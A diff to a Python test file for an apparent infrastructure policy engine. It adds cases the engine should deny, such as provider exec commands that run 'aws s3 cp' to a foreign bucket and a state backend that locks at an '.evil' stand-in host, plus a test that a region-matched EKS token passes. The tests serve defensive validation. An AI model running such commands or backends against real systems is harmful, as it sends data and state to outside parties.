@@ -26,6 +26,11 @@ IDS = {
 } | {"public.store", "key.own", "store.unversioned"}
 
 Break = Callable[[Document], object]
+TOKEN = ["eks", "get-token", "--cluster-name", "one", "--region"]
+LOCKED_ELSEWHERE = {
+    "type": "http",
+    "configuration": {"address": ["https://state.example/de"], "lock_address": ["https://state.example.evil/de"]},
+}
 
 
 def at(kind: str, name: str, path: str, *values: Any) -> Break:
@@ -147,6 +152,16 @@ CASES: list[tuple[str, Callable[[], Document], Break]] = [
     ("place.provider", K, provider("kubernetes", config_context=[], host=["https://evil.example/${var.x}"])),
     ("place.provider", K, provider("kubernetes", proxy_url=["https://proxy.example"])),
     ("plan.forbidden", K, provider("kubernetes", **{"exec.command": ["sh"]})),
+    ("plan.forbidden", K, provider("kubernetes", **{"exec.command": ["aws"], "exec.args": ["s3", "cp", "x", "s3://theirs"]})),
+    ("plan.forbidden", K, provider("kubernetes", **{"exec.command": ["aws"], "exec.args": [*TOKEN, "us-east-1"]})),
+    (
+        "plan.forbidden",
+        K,
+        provider("helm", **{"kubernetes.exec.command": ["aws"], "kubernetes.exec.args": [*TOKEN, "de", "--role-arn", "x"]}),
+    ),
+    ("plan.forbidden", K, provider("kubernetes", **{"exec.command": ["gke-gcloud-auth-plugin"], "exec.args": ["--x"]})),
+    ("state.outside", K, state(insecure=["true"])),
+    ("state.outside", K, top(backend=LOCKED_ELSEWHERE)),
     ("state.outside", A, state(**{"endpoints.s3": ["https://s3.example"]})),
     ("state.outside", A, state(endpoint=["https://s3.example"])),
     ("state.outside", A, state(**{"assume_role.role_arn": ["arn:aws-eusc:iam::222222222222:role/x"]})),
@@ -394,3 +409,12 @@ def test_the_places_are_those_that_the_providers_know(table: str, module: str) -
     if known is None:
         pytest.skip(f"{module} knows no countries")
     assert dict(re.findall(r'"([^"]+)": "([^"]+)"', written[1])) == dict(known)
+
+
+@pytest.mark.parametrize("more", [[], ["--profile", "de"]])
+def test_a_cluster_is_reached_by_a_token_that_is_asked_for_in_its_region(engine: PolicyEngine, more: list[str]) -> None:
+    given = cluster()
+    values = {"exec.command": ["aws"], "exec.args": [*TOKEN, given["locations"][0], *more]}
+    provider("kubernetes", **values)(given)
+    given["notes"] = notes(given["resources"])
+    assert judge_document(given, "de-week2", "sha256:0", engine).denials == ()
